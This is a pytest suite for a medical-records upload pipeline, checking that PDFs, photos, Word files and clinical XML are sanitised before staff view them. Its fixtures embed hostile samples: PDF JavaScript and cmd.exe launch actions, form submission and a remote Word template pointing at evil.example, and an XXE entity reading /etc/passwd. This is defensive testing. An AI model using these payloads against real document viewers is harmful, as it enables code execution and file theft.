"""Papers in the throw-away process: what is counted, what is taken out of the copy that staff read, what is told."""

import hashlib
import io
import warnings
import zipfile
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms

from records import storage
from records.models import ClinicalSummary, DocumentReference
from records.presenters import file_note
from records.services.converting import office
from records.services.decisions import withdraw_document
from records.services.processing import process
from tests.records.conftest import assemble, pdf, picture, stored
from tests.records.test_processing import HEIC

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

Check = Callable[..., DocumentReference]
PLACE = b"SECRET-PLACE"


def saved(document: pikepdf.Pdf) -> bytes:
    """The file's bytes."""
    out = io.BytesIO()
    with warnings.catch_warnings(action="ignore"):
        document.save(out)
    return out.getvalue()


def with_root(key: str, value: object) -> bytes:
    """A PDF with something more at its root."""
    with pikepdf.open(io.BytesIO(pdf(2, "Visible"))) as document:
        document.Root[key] = value
        return saved(document)


def with_note(**note: object) -> bytes:
    """A PDF with a note on its first page."""
    with pikepdf.open(io.BytesIO(pdf(2, "Visible"))) as document:
        whole = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **note)
        document.pages[0].obj["/Annots"] = Array([document.make_indirect(whole)])
        return saved(document)


def with_attachment() -> bytes:
    """A PDF that carries a program along."""
    with pikepdf.open(io.BytesIO(pdf(2, "Visible"))) as document:
        document.attachments["tool.exe"] = b"MZ" + bytes(100)
        return saved(document)


def script(code: str = "app.alert(1)") -> Dictionary:
    """Something to run."""
    return Dictionary(S=Name.JavaScript, JS=String(code))


ACTIVE = {
    "script when opened": with_root("/OpenAction", script()),
    "script by name": with_root("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))),
    "program when opened": with_root("/OpenAction", Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "script when closed": with_root("/AA", Dictionary(WC=script())),
    "calls out when opened": with_root("/OpenAction", Dictionary(S=Name.URI, URI=String("https://evil.example"))),
    "form that sends itself": with_note(
        Subtype=Name.Widget, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))
    ),
    "program behind a button": with_note(Subtype=Name.Widget, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "film": with_note(Subtype=Name.RichMedia),
    "XFA form": with_root("/AcroForm", Dictionary(XFA=String("<xdp/>"))),
    "attachment": with_attachment(),
}
TRACES = (b"JavaScript", b"/JS", b"Launch", b"cmd.exe", b"evil.example", b"/AA", b"EmbeddedFile", b"XFA", b"RichMedia")


def unpacked(content: bytes) -> bytes:
    """The file with nothing packed, so that words in it can be looked for."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.all, compress_streams=False,
                      object_stream_mode=pikepdf.ObjectStreamMode.disable)  # fmt: skip
    return out.getvalue()


@pytest.mark.parametrize("name", ACTIVE)
def test_nothing_starts_by_itself_in_the_copy_that_staff_read(check: Check, name: str) -> None:
    document = check(ACTIVE[name])
    assert (document.status, document.has_active_content) == ("available", True)
    assert stored("records", document.record_key) == ACTIVE[name]

    reading = stored("records", document.reading_key) or b""
    plain = unpacked(reading)
    assert document.reading_media_type == "application/pdf"
    assert not [trace for trace in TRACES if trace in plain]
    with pikepdf.open(io.BytesIO(reading)) as copy:
        assert len(copy.pages) == 2
    assert b"Visible" in plain


def test_a_plain_link_is_nothing_to_warn_of_but_is_not_in_the_copy(check: Check) -> None:
    link = Dictionary(S=Name.URI, URI=String("https://evil.example"))
    document = check(with_note(Subtype=Name.Link, A=link))
    assert not document.has_active_content
    assert b"evil.example" not in unpacked(stored("records", document.reading_key) or b"")


def test_a_stream_kept_outside_the_file_is_not_fetched(check: Check) -> None:
    content = b"<< /Length 0 /F (http://evil.example/x) >>\nstream\n\nendstream"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    document = check(assemble([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, content]))
    assert b"evil.example" not in unpacked(stored("records", document.reading_key) or b"%PDF")


def test_pages_that_cannot_be_read_are_counted_and_not_called_whole(check: Check) -> None:
    with pikepdf.open(io.BytesIO(pdf(6))) as document:
        for index in (2, 4):
            broken = pikepdf.Stream(document, b"no packed bytes")
            broken.write(b"no packed bytes", filter=Name.FlateDecode)
            document.pages[index].obj["/Contents"] = broken
        content = saved(document)
    found = check(content)
    assert (found.status, found.page_count, found.readable_page_count) == ("available", 6, 4)


def test_a_file_that_was_cut_is_refused_with_the_pages_that_were_left(check: Check) -> None:
    content = pdf(6)
    found = check(content[: len(content) * 55 // 100])
    assert (found.status, found.problem) == ("refused", "damaged")
    assert (found.readable_page_count or 0) < 6


def test_a_pdf_with_only_an_owners_password_opens(check: Check) -> None:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(2))) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="secret", user=""))
    found = check(out.getvalue())
    assert found.status in {"available", "set_aside"}
    assert found.problem in {"", "not_scannable"}


def located() -> Image.Exif:
    """What a phone writes beside a picture."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = PLACE.decode()
    exif.get_ifd(0x8825)[2] = (39.0, 44.0, 31.0)
    return exif


@pytest.mark.parametrize("format_name", ["JPEG", "PNG", "TIFF"])
def test_the_reading_copy_of_a_photo_is_upright_and_bare(check: Check, format_name: str) -> None:
    document = check(picture(format_name, size=(400, 200), exif=located()))
    for key in (document.reading_key, document.preview_key):
        copy = stored("records", key) or b""
        with Image.open(io.BytesIO(copy)) as opened:
            assert opened.size == (200, 400)
            assert not opened.getexif()
        assert PLACE not in copy
        assert b"Exif" not in copy


def test_a_small_picture_hidden_beside_the_photo_does_not_travel(check: Check) -> None:
    """A photo cut down on the phone may still carry the whole one as its old thumbnail."""
    exif = located()
    old = picture("JPEG", size=(160, 120))
    exif._ifds[1] = {0x0201: 0, 0x0202: len(old)}
    document = check(picture("JPEG", size=(400, 200), exif=exif) + old + PLACE)
    copy = stored("records", document.reading_key) or b""
    assert PLACE not in copy
    assert copy.count(b"\xff\xd8\xff") == 1


def test_a_photo_from_a_phone_becomes_a_jpeg(check: Check) -> None:
    document = check(HEIC)
    assert document.reading_media_type == "image/jpeg"
    with Image.open(io.BytesIO(stored("records", document.reading_key) or b"")) as opened:
        assert opened.size == (64, 40)


def test_colors_meant_for_another_screen_look_the_same(check: Check) -> None:
    """Red and green change places in this profile; who ignores it shows a green paper as red."""
    out = io.BytesIO()
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB"))
    plain = Image.new("RGB", (64, 64), (200, 30, 30))
    lab = ImageCms.profileToProfile(plain, ImageCms.createProfile("sRGB"), profile, outputMode="LAB")
    lab.save(out, "TIFF", icc_profile=profile.tobytes())
    document = check(out.getvalue())
    with Image.open(io.BytesIO(stored("records", document.reading_key) or b"")) as opened:
        red, green, blue = opened.convert("RGB").getpixel((30, 30))  # type: ignore[misc]
    assert red > 150
    assert green < 80
    assert blue < 80


def test_a_photo_for_print_keeps_its_colors(check: Check) -> None:
    out = io.BytesIO()
    Image.new("CMYK", (64, 64), (0, 255, 255, 0)).save(out, "JPEG")
    document = check(out.getvalue())
    with Image.open(io.BytesIO(stored("records", document.reading_key) or b"")) as opened:
        red, green, _blue = opened.getpixel((30, 30))  # type: ignore[misc]
    assert red > 200
    assert green < 60


def test_a_fax_of_three_pages_is_read_as_three_pages(check: Check) -> None:
    out = io.BytesIO()
    pages = [Image.new("1", (200, 300), color) for color in (1, 0, 1)]
    pages[0].save(out, "TIFF", save_all=True, append_images=pages[1:])
    document = check(out.getvalue())
    assert (document.page_count, document.readable_page_count) == (3, 3)
    with pikepdf.open(io.BytesIO(stored("records", document.reading_key) or b"")) as copy:
        assert len(copy.pages) == 3


def test_text_is_read_without_signs_that_steer_a_screen(check: Check) -> None:
    document = check("Hemoglobina 12.3 \u202eexe.fdp\u0085 años".encode(), "labs.txt")
    assert document.reading_media_type == "text/plain"
    assert (stored("records", document.reading_key) or b"").decode() == "Hemoglobina 12.3 exe.fdp años"


BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
ROOT = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def word(text: str = "Operative report", extra: dict[str, str | bytes] | None = None) -> bytes:
    """A small Word file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", TYPES)
        packed.writestr("_rels/.rels", ROOT)
        packed.writestr("word/document.xml", BODY % f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
        for name, content in (extra or {}).items():
            packed.writestr(name, content)
    return out.getvalue()


def test_the_words_of_a_word_file_can_be_read(check: Check) -> None:
    document = check(word("Operative report: tumor removed"), "report.docx")
    assert (document.status, document.has_active_content) == ("available", False)
    assert document.media_type.endswith("wordprocessingml.document")
    assert document.suggested_kind == "operative"


def test_a_word_file_is_printed_where_a_program_can(check: Check) -> None:
    if office() is None:
        pytest.skip("no LibreOffice on this machine")
    document = check(word("Operative report: tumor removed"), "report.docx")
    assert (document.reading_media_type, document.page_count) == ("application/pdf", 1)
    assert document.preview_key
    assert (stored("records", document.reading_key) or b"").startswith(b"%PDF-")


def test_without_such_a_program_the_words_are_kept(check: Check, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "/nowhere")
    document = check(word("Operative report: tumor removed"), "report.docx")
    assert (document.status, document.reading_media_type) == ("available", "text/plain")
    assert (stored("records", document.reading_key) or b"") == b"Operative report: tumor removed\n"
    assert "can read the words" in file_note(document)


@pytest.mark.parametrize(
    "extra",
    [{"word/vbaProject.bin": b"x"}, {"word/_rels/document.xml.rels": RELATION}, {"word/embeddings/o.bin": b"x"}],
)
def test_a_word_file_with_programs_or_outside_parts_is_marked(check: Check, extra: dict[str, str | bytes]) -> None:
    document = check(word(extra=extra), "report.docx")
    assert (document.status, document.has_active_content) == ("available", True)


def test_a_word_file_with_entities_is_refused(check: Check) -> None:
    content = word("</w:t></w:r></w:p><w:p><w:r><w:t>")
    bomb = '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]>' + BODY % "&c;"
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(out, "w") as after:
        after.writestr("[Content_Types].xml", before.read("[Content_Types].xml"))
        after.writestr("word/document.xml", bomb)
    document = check(out.getvalue(), "report.docx")
    assert (document.status, document.problem) == ("refused", "wrong_type")


def test_a_word_file_that_unpacks_to_gigabytes_is_too_large(check: Check) -> None:
    document = check(word("a" * 60_000_000), "report.docx")
    assert (document.status, document.problem) == ("refused", "too_large")


SUMMARY = """<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>
<ClinicalDocument xmlns="urn:hl7-org:v3">
  <title>Continuity of Care Document</title>
  <effectiveTime value="20260302101500-0600"/>
  <recordTarget><patientRole><patient>
    <name><given>Testina</given><family>Sample</family></name><birthTime value="%s"/>
  </patient></patientRole></recordTarget>
  <custodian><assignedCustodian><representedCustodianOrganization>
    <name>Invented General Hospital</name>
  </representedCustodianOrganization></assignedCustodian></custodian>
  <component><structuredBody>
    <component><section><code code="48765-2"/><title>Allergies</title>
      <text><paragraph>None known</paragraph></text></section></component>
    <component><section><code code="30954-2"/><title>Results</title>
      <text><table><tr><td>Hemoglobin</td><td>12.3</td></tr></table></text></section></component>
  </structuredBody></component>
</ClinicalDocument>"""


def test_a_summary_of_another_portal_tells_whose_from_where_and_what(check: Check) -> None:
    document = check((SUMMARY % "20190314").encode(), "summary.xml", kind="summary")
    summary = document.clinical_summary
    assert (document.status, document.identity_match) == ("available", "same")
    assert (summary.title, summary.custodian) == ("Continuity of Care Document", "Invented General Hospital")
    assert (summary.stated_name, str(summary.stated_birth_date)) == ("Testina Sample", "2019-03-14")
    assert str(summary.written_on) == "2026-03-02"
    assert [each["title"] for each in summary.sections] == ["Allergies", "Results"]
    reading = (stored("records", document.reading_key) or b"").decode()
    assert "None known" in reading
    assert "Hemoglobin 12.3" in reading


def test_what_a_summary_said_goes_when_it_is_taken_back(check: Check) -> None:
    document = check((SUMMARY % "20190314").encode(), "summary.xml", kind="summary")
    withdraw_document(actor=document.uploaded_by, document=document)
    document.refresh_from_db()
    assert not ClinicalSummary.objects.exists()
    assert (document.stated_name, document.stated_birth_date) == ("", None)


def test_a_summary_of_another_child_is_held(check: Check) -> None:
    document = check((SUMMARY % "20110101").encode(), "summary.xml", kind="summary")
    assert (document.status, document.identity_match) == ("held", "other_person")
    assert document.holds.get().source == "cda"


HOSTILE_XML = {
    "entities": SUMMARY.replace("<ClinicalDocument", '<!DOCTYPE a [<!ENTITY x "y">]><ClinicalDocument', 1),
    "file of ours": SUMMARY.replace(
        "<ClinicalDocument", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><ClinicalDocument', 1
    ).replace("None known", "&x;"),
    "outside rules": SUMMARY.replace(
        "<ClinicalDocument", '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><ClinicalDocument', 1
    ),
    "another root": SUMMARY.replace("<ClinicalDocument", '<x xmlns:h="urn:hl7-org:v3" a="ClinicalDocument"').replace(
        "</ClinicalDocument", "</x"
    ),
}


@pytest.mark.parametrize("name", HOSTILE_XML)
def test_suspicious_xml_is_refused(check: Check, name: str) -> None:
    document = check((HOSTILE_XML[name] % "20190314").encode(), "summary.xml")
    assert (document.status, document.problem) == ("refused", "wrong_type")


def test_broken_and_very_deep_xml_harms_nobody(check: Check) -> None:
    cut = (SUMMARY % "20190314")[:900].encode()
    assert check(cut, "cut.xml").problem == "damaged"
    deep = "<ClinicalDocument xmlns='urn:hl7-org:v3'>" + "<a>" * 100_000 + "</a>" * 100_000 + "</ClinicalDocument>"
    assert check(deep.encode(), "deep.xml").status in {"available", "refused", "checking"}


def test_the_same_bytes_twice_are_kept_once(check: Check, receive: Check) -> None:
    """By parts nobody knows the digest before the one pass; the plain form is told at once."""
    first, second = check(pdf(3)), receive(pdf(4))
    DocumentReference.objects.filter(pk=second.pk).update(sha256="")
    other = receive(pdf(5))
    process(document_id=second.pk)
    DocumentReference.objects.filter(pk=other.pk).update(
        sha256="", byte_count=len(pdf(3)), quarantine_key=_again(pdf(3))
    )
    process(document_id=other.pk)
    second.refresh_from_db()
    other.refresh_from_db()
    assert (first.status, second.status, other.status) == ("available", "available", "duplicate")
    assert second.sha256
    assert other.quarantine_key == ""


def _again(content: bytes) -> str:
    key = storage.new_key()
    storage.put("quarantine", key, io.BytesIO(content), sha256=hashlib.sha256(content).hexdigest())
    return key
